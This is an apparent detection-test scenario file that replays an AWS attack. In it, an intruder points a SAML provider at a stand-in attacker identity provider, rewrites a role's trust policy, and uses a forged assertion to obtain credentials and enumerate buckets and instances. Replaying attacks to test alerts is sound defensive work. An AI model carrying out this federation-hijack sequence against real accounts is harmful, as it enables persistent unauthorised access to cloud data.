import { UpdateAssumeRolePolicyCommand, UpdateSAMLProviderCommand } from '@aws-sdk/client-iam';
import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import { ListBucketsCommand } from '@aws-sdk/client-s3';
import { AssumeRoleWithSAMLCommand } from '@aws-sdk/client-sts';
import { awsCli, boto3, defineScenario, minutes, nobody, roleSession } from 'trailproof';
import { trusts } from './support/policies.js';
import { samlAssertion, samlMetadata } from './support/saml-metadata.js';
const intruder = roleSession('administrators', 'alice', {
    as: 'intruder',
    place: 'amsterdam',
    client: awsCli({ os: 'kali' }),
});
const elsewhere = { place: 'singapore', client: boto3() };
const stranger = nobody('stranger', elsewhere);
export default defineScenario({
    title: 'Campaign: federation is turned to an identity provider of the attacker',
    description: 'The sessions that follow are role sessions, not IAM users: the rule for tokens used from many addresses stays silent.',
    techniques: ['T1484.002', 'T1098.003', 'T1078.004'],
    detectedBy: ['iam-saml-provider-updated', 'iam-role-trust-policy-updated'],
    world: {
        roles: {
            administrators: { trust: trusts('arn:aws:iam::<account>:root'), attached: ['IAMFullAccess'] },
            'data-platform': {
                trust: trusts('arn:aws:iam::<account>:root'),
                attached: ['ReadOnlyAccess'],
            },
        },
        samlProviders: ['corporate'],
    },
    cast: { intruder, stranger },
    attack: {
        'from the provider to a session from a new network': async (play) => {
            const provider = `arn:aws:iam::${play.account()}:saml-provider/corporate`;
            const role = `arn:aws:iam::${play.account()}:role/data-platform`;
            await play.as(intruder).send(new UpdateSAMLProviderCommand({
                SAMLProviderArn: provider,
                SAMLMetadataDocument: samlMetadata('https://login.attacker.example'),
            }), { technique: 'T1484.002' });
            await play.as(intruder).send(new UpdateAssumeRolePolicyCommand({
                RoleName: 'data-platform',
                PolicyDocument: JSON.stringify({
                    Version: '2012-10-17',
                    Statement: [
                        {
                            Effect: 'Allow',
                            Principal: { Federated: provider },
                            Action: 'sts:AssumeRoleWithSAML',
                            Condition: { StringEquals: { 'SAML:aud': 'https://signin.aws.amazon.com/saml' } },
                        },
                    ],
                }),
            }), { technique: 'T1098.003' });
            await play.wait(minutes(6));
            const { Credentials } = await play.as(stranger).send(new AssumeRoleWithSAMLCommand({
                RoleArn: role,
                PrincipalArn: provider,
                SAMLAssertion: samlAssertion({
                    issuer: 'https://login.attacker.example',
                    subject: 'alice@example.com',
                    session: 'alice@example.com',
                }),
            }), { technique: 'T1078.004' });
            const federated = play.actor('federated', Credentials, elsewhere);
            await play.as(federated).send(new ListBucketsCommand({}), { technique: 'T1078.004' });
            await play.as(federated).send(new DescribeInstancesCommand({}), { technique: 'T1078.004' });
        },
    },
});
//# sourceMappingURL=campaign-federation.js.map